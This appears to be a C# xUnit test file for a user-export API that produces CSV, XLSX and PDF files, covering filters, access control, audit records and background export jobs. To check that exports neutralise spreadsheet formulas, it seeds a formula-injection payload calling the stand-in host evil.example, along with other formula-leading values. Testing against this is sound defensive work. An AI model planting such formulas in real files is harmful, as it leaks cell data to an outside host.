using System.Diagnostics;
using System.Globalization;
using System.IO.Compression;
using System.Net;
using System.Net.Http.Headers;
using System.Text;
using System.Text.Json.Nodes;
using System.Xml.Linq;
using Identity.Accounts;
using Identity.Accounts.Data;
using Identity.Accounts.Data.Tables;
using Identity.Accounts.Export;
using Identity.Accounts.Import;
using Identity.Accounts.Texts;
using Microsoft.EntityFrameworkCore;
using Microsoft.Extensions.DependencyInjection;

namespace Identity.Tests.Api;

/// <summary>GET /users/export: every format read back by something that is not ours, filters, callers, and jobs.</summary>
public sealed class UserExportTests(ApiServer server)
{
    private const string Formula = "=HYPERLINK(\"http://evil.example/?\"&A1)";

    private static readonly string[] Columns =
        ["id", "email", "userName", "phoneNumber", "firstName", "lastName", "emailVerified", "phoneNumberVerified", "isActive", "roles", "createdAt", "updatedAt", "lastLoginAt"];

    [Fact]
    public async Task Csv_OfUsersWithFormulasAndQuotes_IsSafeForASpreadsheetAndRoundTrips()
    {
        var role = Mark();
        var people = await SeedAsync(server, role, 40);
        var file = await FetchAsync(server, $"users/export?format=csv&role={role}", (await server.AdminAsync()).Access);
        Assert.Equal(("text/csv; charset=utf-8", "no-store", $"attachment; filename=users-{server.Time.GetUtcNow():yyyy-MM-dd}.csv"), (file.Header("Content-Type"), file.Header("Cache-Control"), file.Header("Content-Disposition").Replace("\"", "", StringComparison.Ordinal)));
        Assert.Equal([0xEF, 0xBB, 0xBF], file.Bytes[..3]);

        // No cell begins a formula, whichever of comma, semicolon and tab a spreadsheet takes for the end of one.
        var text = Encoding.UTF8.GetString(file.Bytes[3..]);
        var table = Table(text);
        Assert.Equal(Columns, table[0]);
        Assert.Equal(people.Count + 1, table.Count);
        foreach (var piece in table.Skip(1).SelectMany(row => row).SelectMany(cell => cell.Split(';', ',', '\t')))
        {
            Assert.False(piece.TrimStart('"', ' ') is ['=' or '+' or '-' or '@' or '＝' or '＋' or '－' or '＠', ..], piece);
        }

        // Every text in quotes, so that one cell stays one.
        Assert.Contains("\"'=HYPERLINK(\"\"http://evil.example/?\"\"&A1)\"", text, StringComparison.Ordinal);
        Assert.Contains("\"'+49", text, StringComparison.Ordinal);

        // The import reads it as it was.
        var index = 0;
        await foreach (var line in CsvLines.ReadAsync(new StringReader(text), new Dictionary<string, string>(StringComparer.Ordinal), TestContext.Current.CancellationToken))
        {
            var (json, person) = (JsonNode.Parse(line.Json.Span)!.AsObject(), people[index++]);
            Assert.Equal(
                (person.Id.ToString(), person.Email, person.UserName, person.PhoneNumber, person.FirstName, person.LastName),
                ((string)json["id"]!, (string)json["email"]!, (string?)json["userName"], (string?)json["phoneNumber"], (string?)json["firstName"], (string?)json["lastName"]));
            Assert.Equal((person.EmailVerified, person.IsActive, person.CreatedAt), ((bool)json["emailVerified"]!, (bool)json["isActive"]!, DateTimeOffset.Parse((string)json["createdAt"]!, CultureInfo.InvariantCulture)));
            Assert.Equal(person.Roles, json["roles"]!.AsArray().Select(element => (string)element!));
            Assert.Equal(person.LastLoginAt, (string?)json["lastLoginAt"] is { } last ? DateTimeOffset.Parse(last, CultureInfo.InvariantCulture) : null);
        }

        Assert.Equal(people.Count, index);
    }

    [Fact]
    public async Task Xlsx_OfUsersWithFormulas_HoldsTextsDatesAndMarksAndNoFormula()
    {
        var role = Mark();
        var people = await SeedAsync(server, role, 40);
        var file = await FetchAsync(server, $"users/export?format=xlsx&role={role}", (await server.AdminAsync()).Access);
        Assert.Equal("application/vnd.openxmlformats-officedocument.spreadsheetml.sheet", file.Header("Content-Type"));
        using var workbook = new ZipArchive(new MemoryStream(file.Bytes));
        XNamespace ns = "http://schemas.openxmlformats.org/spreadsheetml/2006/main";
        using var sheet = workbook.GetEntry("xl/worksheets/sheet1.xml")!.Open();
        var document = await XDocument.LoadAsync(sheet, LoadOptions.PreserveWhitespace, TestContext.Current.CancellationToken);
        Assert.Empty(document.Descendants(ns + "f"));
        var rows = document.Descendants(ns + "row").Select(row => row.Elements(ns + "c").ToArray()).ToArray();
        Assert.Equal(Columns, rows[0].Select(Text));
        Assert.Equal(people.Count, rows.Length - 1);
        foreach (var (person, row) in people.Zip(rows.Skip(1)))
        {
            Assert.Equal(
                [person.Id.ToString(), person.Email, person.UserName ?? "", person.PhoneNumber ?? "", person.FirstName ?? "", person.LastName ?? ""],
                row[..6].Select(Text));
            Assert.All(row[6..9], cell => Assert.Equal("b", (string?)cell.Attribute("t")));
            Assert.Equal([person.EmailVerified, person.PhoneNumberVerified, person.IsActive], row[6..9].Select(cell => (string?)cell.Element(ns + "v") == "1"));
            Assert.Equal(string.Join(';', person.Roles), Text(row[9]));
            Assert.Equal(person.CreatedAt.UtcDateTime, DateTime.FromOADate(double.Parse((string)row[10].Element(ns + "v")!, CultureInfo.InvariantCulture)), TimeSpan.FromMilliseconds(2));
        }

        static string Text(XElement cell)
        {
            XNamespace ns = "http://schemas.openxmlformats.org/spreadsheetml/2006/main";
            if (cell.Element(ns + "is") is { } text)
            {
                Assert.Equal("inlineStr", (string?)cell.Attribute("t"));
                return string.Concat(text.Descendants(ns + "t").Select(t => t.Value));
            }

            Assert.Empty(cell.Elements());
            return "";
        }
    }

    [Theory]
    [InlineData("A\uFFFFda")]
    [InlineData("A\uFFFEda")]
    public async Task Xlsx_OfSomebodyWithANameThatXmlCannotHold_IsAFileAllTheSame(string name)
    {
        var admin = await server.AdminAsync();
        var role = Mark();
        await server.RoleAsync(role);
        var person = await server.PostAsync("register", new { email = $"{role}@example.com", password = ApiServer.Password, firstName = name });
        Assert.Equal(HttpStatusCode.Created, person.Status);
        (await server.PutAsync("users/" + person.Value("id"), new { roles = new[] { role } }, admin.Access)).AssertOk();
        var file = await FetchAsync(server, $"users/export?format=xlsx&role={role}", admin.Access);
        using var workbook = new ZipArchive(new MemoryStream(file.Bytes));
        await using var sheet = await workbook.GetEntry("xl/worksheets/sheet1.xml")!.OpenAsync(TestContext.Current.CancellationToken);
        var document = await XDocument.LoadAsync(sheet, LoadOptions.PreserveWhitespace, TestContext.Current.CancellationToken);
        Assert.Contains("A\uFFFDda", document.Root!.Value, StringComparison.Ordinal);
    }

    [Fact]
    public async Task Xlsx_OpenedByLibreOffice_HasTheRightCells()
    {
        var office = ((string[])["/usr/bin/soffice", "/usr/bin/libreoffice"]).FirstOrDefault(File.Exists);
        Assert.SkipUnless(office is not null || Environment.GetEnvironmentVariable("IDENTITY_TEST_REQUIRE_SERVICES") == "1", "LibreOffice is not installed (libreoffice-calc-nogui): run ./test.sh");
        var role = Mark();
        var people = await SeedAsync(server, role, 40);
        var file = await FetchAsync(server, $"users/export?format=xlsx&role={role}", (await server.AdminAsync()).Access);
        var directory = Directory.CreateTempSubdirectory("identity-export-");
        await File.WriteAllBytesAsync(Path.Combine(directory.FullName, "users.xlsx"), file.Bytes, TestContext.Current.CancellationToken);
        await RunAsync(office!, "--headless", "-env:UserInstallation=file://" + directory.FullName + "/profile", "--convert-to", "csv:Text - txt - csv (StarCalc):44,34,76", "--outdir", directory.FullName, Path.Combine(directory.FullName, "users.xlsx"));
        var table = Table(await File.ReadAllTextAsync(Path.Combine(directory.FullName, "users.csv"), TestContext.Current.CancellationToken));
        Assert.Equal(Columns, table[0]);
        foreach (var (person, row) in people.Zip(table.Skip(1)))
        {
            Assert.Equal([person.Id.ToString(), person.Email, person.UserName ?? "", person.PhoneNumber ?? "", person.FirstName ?? "", person.LastName ?? ""], row[..6]);
            Assert.Equal(person.CreatedAt.UtcDateTime.ToString("yyyy-MM-dd HH:mm:ss", CultureInfo.InvariantCulture), row[10]);
        }

        directory.Delete(recursive: true);
    }

    [Fact]
    public async Task Pdf_ReadByPdftotext_HasEveryRowInOrderUnderItsHeadingsWithPageNumbers()
    {
        Assert.SkipUnless(File.Exists("/usr/bin/pdftotext") || Environment.GetEnvironmentVariable("IDENTITY_TEST_REQUIRE_SERVICES") == "1", "pdftotext is not installed (poppler-utils): run ./test.sh");
        var role = Mark();
        var people = await SeedAsync(server, role, 150);
        var file = await FetchAsync(server, $"users/export?format=pdf&role={role}", (await server.AdminAsync()).Access, "de-AT, en;q=0.5");
        Assert.Equal("application/pdf", file.Header("Content-Type"));
        var text = await PdfTextAsync(file.Bytes);
        var pages = text.TrimEnd('\f', '\n').Split('\f');
        Assert.True(pages.Length >= 3, text);
        for (var page = 0; page < pages.Length; page++)
        {
            Assert.Contains("Benutzerkonten", pages[page], StringComparison.Ordinal);
            Assert.Matches("E-Mail +Benutzername +Telefonnummer +Vorname +Nachname +Rollen +Aktiv", pages[page]);
            Assert.Contains($"Seite {page + 1}", pages[page], StringComparison.Ordinal);
        }

        var position = 0;
        foreach (var person in people)
        {
            var found = text.IndexOf(person.Email, position, StringComparison.Ordinal);
            Assert.True(found >= 0, $"{person.Email} is missing, or before its time.");
            var line = text[found..text.IndexOf('\n', found)];
            Assert.Contains(person.CreatedAt.UtcDateTime.ToString("yyyy-MM-dd HH:mm", CultureInfo.InvariantCulture), line, StringComparison.Ordinal);
            Assert.Contains(person.IsActive ? " ja " : " nein ", line, StringComparison.Ordinal);
            if (person.LastName is "Παπαδοπούλου" or "Щербакова" or "Łukasiewicz")
            {
                Assert.Contains(person.LastName, line, StringComparison.Ordinal);
            }

            position = found + 1;
        }

        var english = await PdfTextAsync((await FetchAsync(server, $"users/export?format=pdf&role={role}", (await server.AdminAsync()).Access)).Bytes);
        Assert.Contains("Page 2", english, StringComparison.Ordinal);
        Assert.Contains("Last sign-in (UTC)", english, StringComparison.Ordinal);
    }

    [Fact]
    public async Task Pdf_OfTextsLongerThanTheirCellAndThanAPage_CutsNothingOff()
    {
        Assert.SkipUnless(File.Exists("/usr/bin/pdftotext") || Environment.GetEnvironmentVariable("IDENTITY_TEST_REQUIRE_SERVICES") == "1", "pdftotext is not installed (poppler-utils): run ./test.sh");
        var role = Mark();
        var people = await SeedAsync(server, role, 3);
        var words = Enumerable.Range(0, 250).Select(i => $"{role}x{i}").ToArray();
        await WriteAsync(server, account => account.Roles = [role, .. words], people[1]);
        var text = await PdfTextAsync((await FetchAsync(server, $"users/export?format=pdf&role={role}", (await server.AdminAsync()).Access)).Bytes);
        Assert.All(words, word => Assert.Contains(word, text, StringComparison.Ordinal));
        Assert.Contains("Page 2", text, StringComparison.Ordinal);
        Assert.Contains(people[2].Email, text, StringComparison.Ordinal);
        var nobody = await PdfTextAsync((await FetchAsync(server, $"users/export?format=pdf&role={Mark()}", (await server.AdminAsync()).Access)).Bytes);
        Assert.Contains("Page 1", nobody, StringComparison.Ordinal);
    }

    // A font without a letter draws a box, of which nothing comes back; a letter that is not joined comes back as another character than its joined form.
    [Fact]
    public async Task Pdf_InArabic_HasItsLettersJoinedAndInTheOrderOfReading()
    {
        Assert.SkipUnless(File.Exists("/usr/bin/pdftotext") || Environment.GetEnvironmentVariable("IDENTITY_TEST_REQUIRE_SERVICES") == "1", "pdftotext is not installed (poppler-utils): run ./test.sh");
        var role = Mark();
        var people = await SeedAsync(server, role, 1);
        await WriteAsync(server, account => (account.FirstName, account.LastName) = ("\u0645\u062D\u0645\u062F", "\u05DC\u05D5\u05D9"), people[0]);
        var pdf = (await FetchAsync(server, $"users/export?format=pdf&role={role}", (await server.AdminAsync()).Access, "ar")).Bytes;
        if (Environment.GetEnvironmentVariable("IDENTITY_TEST_KEEP") is { Length: > 0 } folder)
        {
            await File.WriteAllBytesAsync(Path.Combine(folder, "arabic.pdf"), pdf, TestContext.Current.CancellationToken);
        }

        // pdftotext puts back into reading order what it takes for Arabic or Hebrew.
        var text = await PdfTextAsync(pdf);
        Assert.Contains("\uFEE3\uFEA4\uFEE4\uFEAA", text, StringComparison.Ordinal);
        Assert.Contains("\u05DC\u05D5\u05D9", text, StringComparison.Ordinal);
        Assert.Contains(AccountTexts.In(new CultureInfo("ar"), "Export.Title"), text.Normalize(NormalizationForm.FormKC), StringComparison.Ordinal);

        // The whole font goes along: PDFsharp's subsets lack the dots and bodies of some letters, which no text tells.
        Assert.True(pdf.Length > 600_000, $"{pdf.Length} bytes");
        Assert.InRange((await FetchAsync(server, $"users/export?format=pdf&role={Mark()}", (await server.AdminAsync()).Access)).Bytes.Length, 1, 200_000);
    }

    [Fact]
    public async Task Export_ByItsFilters_HoldsWhoAllOfThemLetThrough()
    {
        var (admin, role, other) = (await server.AdminAsync(), Mark(), Mark());
        var people = await SeedAsync(server, role, 40);
        await SeedAsync(server, other, 5);
        async Task AssertAsync(string query, Func<Account, bool> expected) => Assert.Equal(
            people.Where(expected).Select(person => person.Email),
            Table(Encoding.UTF8.GetString((await FetchAsync(server, "users/export?format=csv&" + query, admin.Access)).Bytes)).Skip(1).Select(row => row[1]));
        var middle = people[20].CreatedAt;
        await AssertAsync($"role={role}", _ => true);
        await AssertAsync($"role={role}&isActive=true", person => person.IsActive);
        await AssertAsync($"role={role}&isActive=false", person => !person.IsActive);
        await AssertAsync($"role={role}&createdAfter={middle:yyyy-MM-ddTHH:mm:ss.fffZ}", person => person.CreatedAt > middle);
        await AssertAsync($"role={role}&createdAfter={middle.ToOffset(TimeSpan.FromHours(2)):yyyy-MM-ddTHH:mm:ss.fff}%2B02:00", person => person.CreatedAt > middle);
        await AssertAsync($"role={role}&createdAfter={middle:yyyy-MM-dd}", person => person.CreatedAt > new DateTimeOffset(middle.Date, TimeSpan.Zero));
        await AssertAsync($"role={role}&isActive=false&createdAfter={middle:yyyy-MM-ddTHH:mm:ss.fffZ}", person => !person.IsActive && person.CreatedAt > middle);
        await AssertAsync($"role={role}-none", _ => false);
        (await server.GetAsync("users/export", admin.Access)).AssertProblems("format must be one of xlsx, pdf, csv");
        (await server.GetAsync("users/export?format=XLS&role=%00&isActive=1&createdAfter=yesterday", admin.Access)).AssertProblems(
            "format must be one of xlsx, pdf, csv",
            "role " + AccountRules.RoleRule,
            "isActive must be true or false",
            "createdAfter must be a day or a time in ISO 8601");
    }

    [Fact]
    public async Task Export_ByWhoMayNot_IsRefusedAndWhoMayIsOnRecord()
    {
        var role = Mark();
        await SeedAsync(server, role, 2);
        var path = $"users/export?format=csv&role={role}";
        (await server.GetAsync(path)).AssertFailure(401, "unauthorized");
        (await server.GetAsync(path, (await server.SignedInAsync()).Tokens.Access)).AssertFailure(403, "forbidden");
        var without = await server.GetAsync(path, await server.ServiceTokenAsync("exporter", "identity.users.read"));
        without.AssertFailure(403, "insufficient_scope");
        Assert.Contains("scope=\"identity.users.export\"", without.Headers["WWW-Authenticate"], StringComparison.Ordinal);
        Assert.Equal(3, Table((await server.GetAsync(path, await server.ServiceTokenAsync("exporter", "identity.users.export"))).Text).Count);
        var audit = await server.Services.GetRequiredService<StoreDatabase>().ReadAsync(
            (context, token) => context.Audit.Where(r => r.Action == "users_export.csv" && r.ClientId == "exporter").OrderBy(r => r.Id).Select(r => r.Outcome).ToListAsync(token),
            TestContext.Current.CancellationToken);
        Assert.Contains("started", audit);
        Assert.Contains("success", audit);
    }

    [Fact]
    public async Task Export_OfEverybody_HoldsNoHashAndNoStamp()
    {
        var (person, _) = await server.SignedInAsync();
        var database = server.Services.GetRequiredService<StoreDatabase>();
        var id = Guid.Parse(person.Id);
        var hash = await database.ReadAsync((context, token) => context.Credentials.Where(r => r.AccountId == id).Select(r => r.PasswordHash).SingleAsync(token), TestContext.Current.CancellationToken);
        var stamp = await database.ReadAsync((context, token) => context.Accounts.Where(r => r.Id == id).Select(r => r.SecurityStamp).SingleAsync(token), TestContext.Current.CancellationToken);
        var text = Encoding.UTF8.GetString((await FetchAsync(server, "users/export?format=csv", (await server.AdminAsync()).Access)).Bytes);
        Assert.Contains(person.Email, text, StringComparison.Ordinal);
        Assert.DoesNotContain(hash!, text, StringComparison.Ordinal);
        Assert.DoesNotContain(stamp, text, StringComparison.Ordinal);
    }

    [Fact]
    public async Task Export_WhenAnAnswerLaterIsPreferred_IsAJobWithProgressAndTheSameFile()
    {
        var role = Mark();
        var people = await SeedAsync(server, role, 1500);
        var admin = await server.AdminAsync();
        var done = await DoneAsync(server, $"format=csv&role={role}");
        Assert.Equal(("csv", 1500, 1500), (done.Value("format"), (int)done.Json["total"]!, (int)done.Json["processed"]!));
        Assert.Equal($"/api/identity/exports/{done.Value("id")}/file", done.Value("fileUrl"));
        var file = await FetchAsync(server, done.Value("fileUrl"), admin.Access);
        Assert.Equal((await FetchAsync(server, $"users/export?format=csv&role={role}", admin.Access)).Bytes, file.Bytes);
        Assert.Equal((file.Bytes.Length.ToString(CultureInfo.InvariantCulture), "text/csv; charset=utf-8", "no-store"), (file.Header("Content-Length"), file.Header("Content-Type"), file.Header("Cache-Control")));
        Assert.Equal(people.Select(person => person.Email), Table(Encoding.UTF8.GetString(file.Bytes)).Skip(1).Select(row => row[1]));
        using var workbook = new ZipArchive(new MemoryStream((await FetchAsync(server, (await DoneAsync(server, $"format=xlsx&role={role}")).Value("fileUrl"), admin.Access)).Bytes));
        Assert.NotNull(workbook.GetEntry("xl/worksheets/sheet1.xml"));
        (await server.GetAsync($"exports/{Guid.NewGuid()}", admin.Access)).AssertFailure(404, "export_not_found");
        (await server.GetAsync($"exports/{Guid.NewGuid()}/file", admin.Access)).AssertFailure(404, "export_not_found");
    }

    [Fact]
    public async Task Export_AsALongPdf_IsAJobWithoutBeingAsked()
    {
        await using var own = await ApiServer.StartAsync(new() { ["Exports:DirectPdfRows"] = "10" });
        var role = Mark();
        await SeedAsync(own, role, 11);
        var admin = await own.AdminAsync();
        var answer = await own.GetAsync($"users/export?format=pdf&role={role}", admin.Access);
        Assert.True(answer.Status == HttpStatusCode.Accepted, answer.Text);
        Assert.Equal("%PDF"u8.ToArray(), (await FetchAsync(own, (await EndedAsync(own, answer.Headers["Location"], admin.Access)).Value("fileUrl"), admin.Access)).Bytes[..4]);
        Assert.Equal(HttpStatusCode.OK, (await own.GetAsync($"users/export?format=csv&role={role}", admin.Access)).Status);
    }

    [Fact]
    public async Task Job_AskedOfOneNode_IsFetchedAtAnotherForAnHourAndClearedAwayThen()
    {
        await using var one = await ApiServer.StartAsync([]);
        await using var two = await ApiServer.StartAsync(new() { ["DATA_DIR"] = Path.Combine(one.DirectoryPath, "data") });
        var role = Mark();
        await SeedAsync(one, role, 3);
        var done = await DoneAsync(one, $"format=csv&role={role}");
        two.Time.Advance(TimeSpan.FromMinutes(59));
        var admin = await two.AdminAsync();
        Assert.Equal("done", (await two.GetAsync($"exports/{done.Value("id")}", admin.Access)).Value("state"));
        Assert.Equal(4, Table(Encoding.UTF8.GetString((await FetchAsync(two, done.Value("fileUrl"), admin.Access)).Bytes)).Count);
        two.Time.Advance(TimeSpan.FromMinutes(1));
        (await two.GetAsync($"exports/{done.Value("id")}", admin.Access)).AssertFailure(404, "export_not_found");
        (await two.GetAsync(done.Value("fileUrl"), admin.Access)).AssertFailure(404, "export_not_found");
        await two.Services.GetRequiredService<StoreCleanUp>().RunAsync(TestContext.Current.CancellationToken);
        var left = await two.Services.GetRequiredService<StoreDatabase>().ReadAsync(
            async (context, token) => await context.Set<ExportJobRow>().CountAsync(token) + await context.Set<ExportChunkRow>().CountAsync(token), TestContext.Current.CancellationToken);
        Assert.Equal(0, left);
    }

    [Fact]
    public async Task Job_OfANodeThatWasKilled_IsMadeAnewByAnother()
    {
        await using var own = await ApiServer.StartAsync([]);
        var role = Mark();
        await SeedAsync(own, role, 3);
        var (id, now) = (Guid.NewGuid(), own.Time.GetUtcNow());
        var database = own.Services.GetRequiredService<StoreDatabase>();
        await database.WriteAsync(
            (context, token) =>
            {
                context.Add(new ExportJobRow { Id = id, State = "running", Format = "csv", Language = "en", Role = role, CreatedAt = now, Total = 3, Processed = 2, Attempts = 1, ClaimedBy = Guid.NewGuid(), ClaimedUntil = now.AddMinutes(2), ExpiresAt = now.AddDays(1) });
                context.Add(new ExportChunkRow { JobId = id, Ordinal = 0, Content = "half a fi"u8.ToArray() });
                return context.SaveChangesAsync(token);
            },
            TestContext.Current.CancellationToken);
        var admin = await own.AdminAsync();
        (await own.GetAsync($"exports/{id}/file", admin.Access)).AssertFailure(409, "export_not_ready");
        await own.Services.GetRequiredService<ExportJobs>().RunNextAsync(TestContext.Current.CancellationToken);
        Assert.Equal("running", (await own.GetAsync($"exports/{id}", admin.Access)).Value("state"));
        own.Time.Advance(TimeSpan.FromMinutes(3));
        await own.Services.GetRequiredService<ExportJobs>().RunNextAsync(TestContext.Current.CancellationToken);
        var done = await EndedAsync(own, $"exports/{id}", admin.Access);
        Assert.Equal(4, Table(Encoding.UTF8.GetString((await FetchAsync(own, done.Value("fileUrl"), admin.Access)).Bytes)).Count);
    }

    // It kills its process each time, so nobody is left to say that it failed.
    [Fact]
    public async Task Job_WhenTheThirdNodeWasKilledOverIt_HasFailed()
    {
        await using var own = await ApiServer.StartAsync([]);
        var (id, now) = (Guid.NewGuid(), own.Time.GetUtcNow());
        var database = own.Services.GetRequiredService<StoreDatabase>();
        await database.WriteAsync(
            (context, token) =>
            {
                context.Add(new ExportJobRow { Id = id, State = "running", Format = "csv", Language = "en", CreatedAt = now, Total = 3, Processed = 2, Attempts = 3, ClaimedBy = Guid.NewGuid(), ClaimedUntil = now.AddMinutes(2), ExpiresAt = now.AddDays(1) });
                context.Add(new ExportChunkRow { JobId = id, Ordinal = 0, Content = "half a fi"u8.ToArray() });
                return context.SaveChangesAsync(token);
            },
            TestContext.Current.CancellationToken);
        own.Time.Advance(TimeSpan.FromMinutes(3));
        await Task.WhenAll(Enumerable.Range(0, 10).Select(_ => Task.Run(() => own.Services.GetRequiredService<ExportJobs>().RunNextAsync(TestContext.Current.CancellationToken))));
        Assert.Equal("failed", (await own.GetAsync($"exports/{id}", (await own.AdminAsync()).Access)).Value("state"));
        var (attempts, chunks) = await database.ReadAsync(
            async (context, token) => ((await context.Set<ExportJobRow>().SingleAsync(r => r.Id == id, token)).Attempts, await context.Set<ExportChunkRow>().CountAsync(token)), TestContext.Current.CancellationToken);
        Assert.Equal((3, 0), (attempts, chunks));
    }

    [Fact]
    public async Task Job_WhenClaimedFiftyTimesAtOnce_IsMadeOnce()
    {
        await using var own = await ApiServer.StartAsync([]);
        var role = Mark();
        await SeedAsync(own, role, 50);
        var jobs = own.Services.GetRequiredService<ExportJobs>();
        var job = await jobs.AddAsync(new ExportOrder(ExportFormat.Csv, new AccountFilter(null, role, null), "en"), 50, TestContext.Current.CancellationToken);
        await Task.WhenAll(Enumerable.Range(0, 50).Select(_ => Task.Run(() => jobs.RunNextAsync(TestContext.Current.CancellationToken))));
        await EndedAsync(own, $"exports/{job.Id}", (await own.AdminAsync()).Access);
        var (attempts, chunks) = await own.Services.GetRequiredService<StoreDatabase>().ReadAsync(
            async (context, token) => ((await context.Set<ExportJobRow>().SingleAsync(r => r.Id == job.Id, token)).Attempts, await context.Set<ExportChunkRow>().CountAsync(token)), TestContext.Current.CancellationToken);
        Assert.Equal((1, 1), (attempts, chunks));
    }

    [Fact]
    public async Task Document_OfTheRoute_NamesItsFilesItsJobAndItsFailures()
    {
        var operation = (await server.GetAsync("/openapi/v1.json")).Json["paths"]!["/api/identity/users/export"]!["get"]!;
        Assert.Equal(["200", "202", "400", "401", "403", "500", "502", "503"], operation["responses"]!.AsObject().Select(response => response.Key).Order(StringComparer.Ordinal));
        Assert.Equal(
            ["application/pdf", "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet", "text/csv"],
            operation["responses"]!["200"]!["content"]!.AsObject().Select(content => content.Key).Order(StringComparer.Ordinal));
        Assert.Equal("xlsx", (string?)operation["responses"]!["202"]!["content"]!["application/json"]!["example"]!["format"]);
    }

    /// <summary>An export as a job, done.</summary>
    internal static async Task<Answer> DoneAsync(ApiServer server, string query)
    {
        var admin = await server.AdminAsync();
        using var request = new HttpRequestMessage(HttpMethod.Get, "/api/identity/users/export?" + query);
        request.Headers.Authorization = new AuthenticationHeaderValue("Bearer", admin.Access);
        request.Headers.Add("Prefer", "respond-async, wait=10");
        using var response = await server.Http.SendAsync(request, TestContext.Current.CancellationToken);
        var answer = await Answer.ReadAsync(response);
        Assert.True(answer.Status == HttpStatusCode.Accepted, answer.Text);
        Assert.Equal("respond-async", answer.Headers["Preference-Applied"]);
        var done = await EndedAsync(server, answer.Headers["Location"], admin.Access);
        Assert.Equal("done", done.Value("state"));
        return done;
    }

    // A job runs behind its answer: it is asked for until it has ended, as a caller does.
    internal static async Task<Answer> EndedAsync(ApiServer server, string address, string token)
    {
        for (var watch = Stopwatch.StartNew(); watch.Elapsed < TimeSpan.FromMinutes(2);)
        {
            var status = await server.GetAsync(address, token);
            status.AssertOk();
            if (status.Value("state") is "done" or "failed")
            {
                return status;
            }

            await Task.Delay(20, TestContext.Current.CancellationToken);
        }

        throw new TimeoutException("The export does not end.");
    }

    internal static string Mark() => "r" + Guid.NewGuid().ToString("N")[..12];

    /// <summary>People with this role, in the order of their ids.</summary>
    internal static async Task<IReadOnlyList<Account>> SeedAsync(ApiServer server, string role, int count)
    {
        var start = server.Time.GetUtcNow().AddDays(-40);
        (string? First, string? Last)[] names = [("Ada", "Lovelace"), (Formula, "+1+1"), ("Ελένη", "Παπαδοπούλου"), ("Галина", "Щербакова"), ("Zoë", "O'Neil, \"Q\""), ("Jan", "Łukasiewicz"), ("'t", "a;=1+1"), ("@x", "-2"), (null, "\"=2\"")];
        var people = Enumerable.Range(0, count).Select(i =>
        {
            var at = start.AddHours(i).AddMilliseconds(i);
            var email = $"{role}.{i.ToString("D5", CultureInfo.InvariantCulture)}@example.com";
            return new Account
            {
                Id = Guid.CreateVersion7(at),
                Email = email,
                NormalizedEmail = email.ToUpperInvariant(),
                UserName = i % 3 == 0 ? null : $"-{role}{i}",
                NormalizedUserName = i % 3 == 0 ? null : $"-{role}{i}".ToUpperInvariant(),
                PhoneNumber = i % 2 == 0 ? "+49" + Random.Shared.NextInt64(100_000_000_000, 999_999_999_999).ToString(CultureInfo.InvariantCulture) : null,
                FirstName = names[i % names.Length].First,
                LastName = names[i % names.Length].Last,
                EmailVerified = i % 2 == 0,
                IsActive = i % 5 != 0,
                Roles = i % 4 == 0 ? [role, "-x"] : [role],
                CreatedAt = at,
                UpdatedAt = at,
                LastLoginAt = i % 3 == 0 ? null : at.AddDays(1),
            };
        }).ToList();
        foreach (var batch in people.Chunk(500))
        {
            await server.Services.GetRequiredService<StoreDatabase>().TransactAsync(
                async (context, token) =>
                {
                    context.AddRange(batch.Select(SqlAccountStore.Map));
                    return await context.SaveChangesAsync(token);
                },
                TestContext.Current.CancellationToken);
        }

        return people;
    }

    internal static async Task<Fetched> FetchAsync(ApiServer server, string path, string token, string? language = null)
    {
        using var request = new HttpRequestMessage(HttpMethod.Get, path.StartsWith('/') ? path : "/api/identity/" + path);
        request.Headers.Authorization = new AuthenticationHeaderValue("Bearer", token);
        if (language is not null)
        {
            request.Headers.Add("Accept-Language", language);
        }

        using var response = await server.Http.SendAsync(request, TestContext.Current.CancellationToken);
        var bytes = await response.Content.ReadAsByteArrayAsync(TestContext.Current.CancellationToken);
        Assert.True(response.StatusCode == HttpStatusCode.OK, $"{(int)response.StatusCode}: {Encoding.UTF8.GetString(bytes[..Math.Min(bytes.Length, 500)])}");
        return new Fetched(bytes, response.Headers.Concat(response.Content.Headers).ToDictionary(header => header.Key, header => string.Join(", ", header.Value), StringComparer.OrdinalIgnoreCase));
    }

    // RFC 4180, written anew: what reads the file must not be what wrote it.
    internal static List<string[]> Table(string text)
    {
        var (rows, row, cell, quoted) = (new List<string[]>(), new List<string>(), new StringBuilder(), false);
        text = text.TrimStart('\uFEFF').Replace("\r\n", "\n", StringComparison.Ordinal);
        for (var i = 0; i < text.Length; i++)
        {
            var c = text[i];
            if (quoted)
            {
                if (c == '"' && i + 1 < text.Length && text[i + 1] == '"')
                {
                    cell.Append('"');
                    i++;
                }
                else if (c == '"')
                {
                    quoted = false;
                }
                else
                {
                    cell.Append(c);
                }
            }
            else if (c == '"')
            {
                quoted = true;
            }
            else if (c is ',' or '\n')
            {
                row.Add(cell.ToString());
                cell.Clear();
                if (c == '\n')
                {
                    rows.Add([.. row]);
                    row.Clear();
                }
            }
            else
            {
                cell.Append(c);
            }
        }

        Assert.False(quoted);
        Assert.Equal(0, cell.Length);
        return rows;
    }

    private static async Task WriteAsync(ApiServer server, Action<Account> change, Account account)
    {
        change(account);
        await server.Services.GetRequiredService<StoreDatabase>().TransactAsync(
            async (context, token) =>
            {
                context.Update(SqlAccountStore.Map(account));
                return await context.SaveChangesAsync(token);
            },
            TestContext.Current.CancellationToken);
    }

    private static async Task<string> PdfTextAsync(byte[] pdf)
    {
        var file = Path.GetTempFileName();
        await File.WriteAllBytesAsync(file, pdf, TestContext.Current.CancellationToken);
        var text = await RunAsync("/usr/bin/pdftotext", "-layout", "-enc", "UTF-8", file, "-");
        File.Delete(file);
        return text;
    }

    private static async Task<string> RunAsync(string program, params string[] arguments)
    {
        using var process = Process.Start(new ProcessStartInfo(program, arguments) { RedirectStandardOutput = true, StandardOutputEncoding = Encoding.UTF8, UseShellExecute = false })!;
        var text = await process.StandardOutput.ReadToEndAsync(TestContext.Current.CancellationToken);
        await process.WaitForExitAsync(TestContext.Current.CancellationToken);
        Assert.Equal(0, process.ExitCode);
        return text;
    }

    internal sealed record Fetched(byte[] Bytes, Dictionary<string, string> Headers)
    {
        public string Header(string name) => Headers[name];
    }
}
